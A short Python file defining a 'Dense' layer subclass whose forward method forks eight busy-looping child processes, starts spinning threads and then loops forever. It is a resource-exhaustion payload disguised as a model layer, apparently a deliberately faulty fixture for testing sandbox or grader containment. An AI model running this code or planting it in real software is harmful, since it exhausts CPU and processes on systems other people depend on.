import os
import threading

import wrong


def spin():
    while True:
        pass


class Dense(wrong.Dense):
    def forward(self, x):
        for _ in range(8):
            if os.fork() == 0:
                spin()
            threading.Thread(target=spin, daemon=True).start()
        spin()
